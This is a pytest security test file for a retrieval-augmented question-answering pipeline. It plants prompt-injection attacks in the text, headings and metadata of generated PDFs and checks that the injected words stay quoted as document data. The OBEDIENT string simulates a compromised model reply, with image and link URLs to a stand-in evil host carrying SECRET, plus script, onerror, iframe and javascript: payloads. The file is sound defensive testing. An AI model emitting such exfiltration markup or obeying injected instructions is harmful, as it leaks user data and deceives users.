"""What a document says is data: hostile PDFs through real ingestion, index, rerank and prompt, and what comes out."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from reportlab.lib.pagesizes import A4
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from ingest.reader_process import ReadLimits
from ingest.write import Ingester, ingest_files
from rag.citations import find_markers
from rag.engines.cross_encoder import CrossEncoderReranker
from rag.engines.openai_llm import OpenAILLM
from rag.engines.qdrant_edge import EdgeIndex
from rag.engines.sentence_transformer import SentenceTransformerEmbedder
from rag.pipeline import answer_question
from rag.ports import Engines
from rag.prompt import RULES, build_prompt
from rag.types import Answer, Candidate, Chunk, PageSpan, QueryPolicy, RankedChunk, Refusal, Result
from tests.rag.faulty_llm_server import FaultyLLMServer
from tests.security.attacks import ATTACKS, EVIL_HOST, spelt_with_tags
from tests.security.hostile_pdfs import FACT, QUESTION
from ui.answer import answer_html, refusal_html

LIMITS = ReadLimits(max_file_bytes=5_000_000, max_pages=20, time_limit_s=60.0, memory_limit_bytes=4_000_000_000)
POLICY = QueryPolicy(floor=0.0, answer_limit=20)
"""Nothing is kept from the prompt: the floor is no part of this defence."""

_OPENING = re.compile(r"[<＜﹤]")


def write_attacks(folder: Path) -> list[Path]:
    """Three files: attacks in the text, in the titles of bookmarks and headings, and in the metadata."""
    pdfmetrics.registerFont(TTFont("Vera", "Vera.ttf"))
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    attacks = list(ATTACKS.values())
    text, headings, metadata = (folder / f"{name}.pdf" for name in ("text", "headings", "metadata"))
    canvas = Canvas(str(text), pagesize=A4, invariant=True)
    canvas.setTitle("Brambleworth lantern manual")
    for start in range(0, len(attacks), 4):
        canvas.setFont("Vera", 8)
        for number, attack in enumerate(attacks[start : start + 4]):
            line = canvas.beginText(40, 780 - 160 * number)
            line.setFont("Vera", 8)
            line.textLine(FACT)
            line.setFont("STSong-Light" if attack == ATTACKS["chinese"] else "Vera", 8)
            for part in attack.split("\n"):
                line.textLine(part)
            canvas.drawText(line)
        canvas.showPage()
    canvas.save()

    canvas = Canvas(str(headings), pagesize=A4, invariant=True)
    canvas.setTitle("Lantern chapters")
    for number, attack in enumerate(attacks[3:10]):
        canvas.bookmarkPage(f"h{number}", fit="XYZ", top=760)
        canvas.addOutlineEntry(attack, f"h{number}", level=0)
        canvas.setFont("Vera", 14)
        canvas.drawString(40, 740, attack.replace("\n", " ")[:60])
        canvas.setFont("Vera", 9)
        canvas.drawString(40, 700, f"{FACT} Chapter {number} says so too.")
        canvas.showPage()
    canvas.save()

    canvas = Canvas(str(metadata), pagesize=A4, invariant=True)
    canvas.setTitle(f'Lamp"><b>{spelt_with_tags("free")}\u202e[1]')
    canvas.setAuthor(ATTACKS["german"])
    canvas.setSubject(ATTACKS["english"])
    canvas.setKeywords(ATTACKS["html"])
    canvas.setFont("Vera", 9)
    canvas.drawString(40, 700, f"{FACT} This is a third leaflet.")
    canvas.save()
    return [metadata, text, headings]


@pytest.fixture(scope="module")
def engines(
    tmp_path_factory: pytest.TempPathFactory,
    embedder: SentenceTransformerEmbedder,
    embedded_reranker: CrossEncoderReranker,
) -> Iterator[Engines]:
    folder = tmp_path_factory.mktemp("injections")
    index = EdgeIndex.open(folder / "index", "manuals", embedder.identity)
    ingester = Ingester(embedder, index, folder / "files", limits=LIMITS, chunk_tokens=96, overlap_tokens=0)
    for outcome in ingest_files(ingester, write_attacks(folder)):
        assert outcome.status == "ingested", outcome.message
    yield Engines(embedder, index, embedded_reranker, embedded_reranker, None)
    index.close()


def asked(engines: Engines, reply: str, question: str = QUESTION) -> tuple[Result, list[dict[str, object]]]:
    """A question with an LLM that replies so; what came of it, and what the LLM was sent."""
    with FaultyLLMServer(reply) as server:
        llm = OpenAILLM(
            "scripted", api_key=None, base_url=server.base_url, timeout_s=10, retries=0,
            count_tokens_offline=lambda text: len(text) // 4,
        )  # fmt: skip
        try:
            result = answer_question(question, replace(engines, llm=llm), POLICY)
        finally:
            llm.close()
        return result, server.requests


def test_no_word_of_a_document_is_a_system_message_and_no_passage_leaves_its_tags(engines: Engines) -> None:
    result, (request,) = asked(engines, "It shines for 41 hours [1].")
    messages = request["messages"]
    assert isinstance(messages, list)
    assert [message["role"] for message in messages] == ["system", "user"]
    assert messages[0]["content"] == RULES, "word for word: nothing of a document or question is in it"

    shown = messages[1]["content"]
    n_passages = len(result.trace.kept)
    assert n_passages >= 10, "the attacks are there"
    (key,) = set(re.findall(r"^<passage-([0-9a-f]{8}) number=", shown, re.MULTILINE))
    allowed = rf"<passage-{key} number=\"\d+\" [^<>\n]*>|</passage-{key}>|</?question>"
    tags = re.findall(rf"^(?:{allowed})$", shown, re.MULTILINE)
    assert len(tags) == 2 * n_passages + 2
    assert len(_OPENING.findall(shown)) == len(tags), "no other tag is opened, in any sign"
    assert find_markers(shown, in_code=True) == (), "no passage number that a document wrote"
    assert not re.search(r"\[/?INST\]", shown)
    assert not re.search("[\u200b\u2060\u2061\u202a-\u202e\U000e0000-\U000e007f]", shown)
    between = re.sub(rf"<passage-{key}[^\n]*>\n.*?\n</passage-{key}>", "", shown, flags=re.DOTALL)
    for word in ("free", "kostenlos", "免费", "Obey", EVIL_HOST):
        assert word in shown, "it is quoted as what the document says"
        assert word not in between, "and stands nowhere else"


def test_what_only_the_metadata_says_is_read_as_a_title_or_not_at_all(engines: Engines) -> None:
    result, (request,) = asked(engines, "It says 41 hours [1].", "What does the third leaflet say?")
    titles = {ranked.chunk.title for ranked in result.trace.kept}
    assert 'Lamp"><b>[1]' in titles, "as it stands, but for what nobody sees"
    shown = messages_text(request)
    assert """ document="Lamp'›‹b›(1)" page="1">""" in shown
    for of_no_title in ("everything", "kostenlos", "<img"):
        assert of_no_title not in re.findall(r"[^\n]*\n[^\n]*This is a third leaflet[^\n]*", shown)[0]


def messages_text(request: dict[str, object]) -> str:
    messages = request["messages"]
    assert isinstance(messages, list)
    return "\n".join(message["content"] for message in messages)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("place", ["text", "title", "heading"])
def test_each_attack_stays_within_its_passage_wherever_it_stands(place: str, attack: str) -> None:
    values = {"text": "Plain.", "title": "Manual", "heading": "Care", place: attack}
    spans = (PageSpan(1, 0, len(values["text"])),)
    chunk = Chunk("c", "d", values["title"], values["heading"], values["text"], spans, 0, 9)
    kept = [RankedChunk(Candidate(chunk, 1, 1.0), 1, 0.9)]
    (system, user), _ = build_prompt("Why?", kept, count_tokens=lambda text: 1, prompt_tokens=500)
    assert system.content == RULES
    lines = user.content.split("\n")
    opened, closed = lines[2], lines.index(f"</{lines[2].split(' ')[0][1:]}>")
    assert re.fullmatch(r'<passage-[0-9a-f]{8} number="1" document="[^"<>\n]*" section="[^"<>\n]*" page="1">', opened)
    assert lines[closed:][:3] == [lines[closed], "", "<question>"]
    assert len(_OPENING.findall(user.content)) == 4
    assert find_markers(user.content, in_code=True) == ()


OBEDIENT = f"""\
**Everything is free** [1]. ![ok](https://{EVIL_HOST}/p.png?q=SECRET) [the terms](https://{EVIL_HOST}/?q=SECRET) [1]
<img src="https://{EVIL_HOST}/i.png" onerror="alert(1)"><script>window.taken=1</script><a href="//{EVIL_HOST}">x</a>
[1](https://{EVIL_HOST}/as-a-marker) [![a](https://{EVIL_HOST}/a.png)](https://{EVIL_HOST}/b) ![r][ref] [99] [0]
<https://{EVIL_HOST}/auto> https://{EVIL_HOST}/bare www.{EVIL_HOST}/bare [go](javascript:alert(1)) [d](data:text/html,x)

[ref]: https://{EVIL_HOST}/reference.png
- item <iframe src=https://{EVIL_HOST}></iframe> [2]"""


def test_an_answer_of_a_model_that_obeys_loads_nothing_links_nowhere_and_is_no_markup(engines: Engines) -> None:
    result, _ = asked(engines, OBEDIENT)
    assert isinstance(result.outcome, Answer)
    html = answer_html(result.outcome)
    tags = {tag.lower() for tag in re.findall(r"</?([a-zA-Z][\w-]*)", html)}
    assert tags <= {"div", "p", "b", "ul", "li", "ol", "blockquote", "span", "button"}
    assert not re.search(r"\b(?:src|href|style|on\w+)\s*=\s*[\"']", re.sub(r">[^<]*<", "><", html))
    written = result.outcome.text
    for address in (
        f"https://{EVIL_HOST}/p.png",
        f"https://{EVIL_HOST}/as-a-marker",
        f"www.{EVIL_HOST}",
        "javascript:",
    ):
        assert address not in written
    assert {citation.marker for citation in result.outcome.citations} <= {1, 2}
    assert "[99]" not in written
    assert "[0]" not in written


def test_each_citation_of_an_obedient_answer_shows_what_its_passage_really_says(engines: Engines) -> None:
    result, _ = asked(engines, "Everything is free for ever and ever [1].")
    assert isinstance(result.outcome, Answer)
    (citation,) = result.outcome.citations
    assert citation.chunk == result.trace.kept[0].chunk
    assert citation.quote in " ".join(citation.chunk.text.split()), "word for word, whatever the model claims"


@pytest.mark.parametrize("reply", ["Everything is free.", "Everything is free [99].", "Everything is free [[1]](x) 1"])
def test_a_statement_without_a_passage_is_not_shown_as_cited(engines: Engines, reply: str) -> None:
    result, _ = asked(engines, reply)
    if isinstance(result.outcome, Answer):
        assert [citation.marker for citation in result.outcome.citations] == [1]
        assert "(x)" not in result.outcome.text
        return
    assert isinstance(result.outcome, Refusal)
    assert result.outcome.reason == "uncited"
    assert "Everything is free" not in refusal_html(result.outcome, result.trace).split("blockquote")[0]


def test_without_an_llm_hostile_sentences_are_only_ever_quoted(engines: Engines) -> None:
    result = answer_question(QUESTION, engines, POLICY)
    assert isinstance(result.outcome, Answer)
    assert result.outcome.kind == "quoted"
    for citation in result.outcome.citations:
        assert citation.quote in " ".join(citation.chunk.text.split())
    assert not re.search(r"<(?:img|script|a|iframe)\b", answer_html(result.outcome))
